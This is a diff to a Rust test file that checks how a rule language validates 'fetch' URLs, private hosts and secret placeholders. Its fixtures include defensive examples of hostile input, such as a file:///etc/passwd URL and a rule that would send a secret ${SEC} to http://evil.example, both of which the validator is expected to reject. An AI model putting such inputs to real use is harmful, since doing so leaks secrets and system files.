@@ -1,8 +1,9 @@
 //! `fetch`, as short conversations. The answers are at hand; how they come is tested where they are brought.
 
-use mynah_core::{FetchBody, FetchFailure, Quiet, Timestamp};
+use async_trait::async_trait;
+use mynah_core::{Fetch, FetchAnswer, FetchBody, FetchFailure, FetchRequest, Quiet, Timestamp};
 
-use super::test_book::{Talk, diagnostics};
+use super::test_book::{Talk, diagnostics, diagnostics_by};
 use crate::explain::Verdict;
 use crate::{Lang, Moment};
 
@@ -28,6 +29,27 @@ const BEIJING: &str = "GET https://api.example.com/w?q=%E5%8C%97%E4%BA%AC";
 /// A rule with this `fetch` and reply.
 fn rule(fetch: &str, reply: &str) -> String {
     format!("[[rule]]\npattern = \"问 {{q}}\"\nfetch = {{ {fetch} }}\nreply = \"{reply}\"\n")
+}
+
+/// A client whose operator listed `127.0.0.1:8000` as private, and no public host.
+#[derive(Debug)]
+struct Settings;
+
+#[async_trait]
+impl Fetch for Settings {
+    fn check(&self, request: &FetchRequest) -> Result<(), FetchFailure> {
+        let url = request.url.to_string();
+        let host = url.split('/').nth(2).unwrap_or_default().to_owned();
+        match host.as_str() {
+            "127.0.0.1:8000" => Ok(()),
+            private if private.starts_with("127.") => Err(FetchFailure::PrivateNotAllowed(host)),
+            _ => Err(FetchFailure::HostNotAllowed(host)),
+        }
+    }
+
+    async fn fetch(&self, _: &FetchRequest) -> Result<FetchAnswer, FetchFailure> {
+        Err(FetchFailure::Offline)
+    }
 }
 
 /// The messages of all errors of a text, in both languages.
@@ -321,6 +343,16 @@ fn a_file_made_to_steal_is_refused_line_by_line() {
         (url("file:///etc/passwd"), "is not an address"),
         (url("https://a.example/#{q}"), "is not sent"),
         (url("https://a.example/x/../y"), "path is . or .."),
+        (url(&format!("https://a.example/{}", "x".repeat(8_000))), "too long: at most 8000"),
+        (url("https://api.example.com:99999/{q}"), "the port \"99999\" is not a number"),
+        (url("https://api.example.com:/x"), "the port \"\" is not a number"),
+        (url("https://a\\t.example/x"), "\"a\\t.example\" is not a host"),
+        // The text of a person completes a byte.
+        (url("https://a.example/u/%{q}/public"), "% needs two hex digits"),
+        (url("https://a.example/%2{q}"), "% needs two hex digits"),
+        (url("https://a.example/%zz"), "% needs two hex digits"),
+        (url("https://a.example/%2"), "% needs two hex digits"),
+        (fetch("url = \"https://a.example/\", headers = { Content-Type = \"application/x-www-form-urlencoded\" }, body = \"q=%{q}\""), "% needs two hex digits"),
         (url("https://a.example/?k=${q}"), "is a secret, and {q} a capture"),
         (url("https://a.example/?k={x}"), "{x} is unknown here"),
         // A taken text as another sentence, or under the name of something built in.
@@ -390,11 +422,6 @@ fn a_picture_may_be_at_a_public_address() {
         errors(&format!("[[rule]]\npattern = \"图 {{q}}\"\n{fetch}\nimage = \"{image}\"\n"))
     };
     for (bad, words) in [
-        ("http://127.0.0.1/x.png", "not on the public internet"),
-        ("http://localhost:8000/x.png", "not on the public internet"),
-        ("https://192.168.1.1/x.png", "not on the public internet"),
-        ("http://[::1]/x.png", "not on the public internet"),
-        ("http://nas.local/x.png", "not on the public internet"),
         ("https://a.example/{pic}", "neither fixed nor exactly one taken name"),
         ("{q}", "neither fixed nor exactly one taken name"),
         ("ftp://a.example/x.png", "is not an address"),
@@ -403,6 +430,44 @@ fn a_picture_may_be_at_a_public_address() {
         assert!(found.iter().any(|one| one.contains(words)), "{bad}: {found:?}");
     }
     assert_eq!(image("{pic}"), [""; 0]);
+}
+
+#[test]
+fn a_picture_at_a_private_host_is_judged_by_the_settings() {
+    let picture = |url: &str| format!("[[rule]]\nexact = \"a\"\nimage = \"{url}\"\n");
+    let errors_by = |url: &str| {
+        let all = diagnostics_by(&picture(url), &Settings).into_iter();
+        all.filter(|one| one.is_error()).collect::<Vec<_>>()
+    };
+    for good in ["http://127.0.0.1:8000/pic", "https://pics.example.com/pic"] {
+        assert!(errors_by(good).is_empty(), "{good}: {:?}", errors_by(good));
+    }
+    let found = errors_by("http://127.0.0.1:8001/pic");
+    let [error] = found.as_slice() else { panic!("{found:?}") };
+    assert_eq!(error.message(Lang::En), "127.0.0.1:8001 is not on the public internet");
+    let hint = error.hint(Lang::En).unwrap_or_default();
+    assert!(hint.ends_with("[fetch] private = [\"127.0.0.1:8001\"]"), "{hint}");
+    // Nothing is known of the settings: the client decides when it fetches.
+    assert_eq!(errors(&picture("http://127.0.0.1:8001/pic")), [""; 0]);
+}
+
+#[test]
+fn a_secret_inside_of_a_name_is_an_error_and_drops_nothing() {
+    let fetch = |part: &str| rule(&format!("url = \"https://a.example/\", {part}"), "ok");
+    for text in [
+        fetch("headers = { Authorization = \"Bearer {user.k|${SEC}}\" }"),
+        fetch("body = { q = \"{user.k|${SEC}}\" }"),
+        fetch("body = { q = [\"{user.k|${SEC}}\"] }"),
+        fetch("body = \"{user.k|${SEC}}\""),
+        rule("url = \"http://evil.example/{random:a|${SEC}}\"", "ok"),
+        rule("url = \"https://a.example/{${SEC}|b}\"", "ok"),
+        rule("url = \"https://a.example/{upper:${SEC}}\"", "ok"),
+    ] {
+        let found = errors(&text);
+        let [error] = found.as_slice() else { panic!("{text}: {found:?}") };
+        let words = "the secret ${SEC} is inside of the braces of a name / ";
+        assert!(error.starts_with(words), "{text}: {error}");
+    }
 }
 
 #[test]
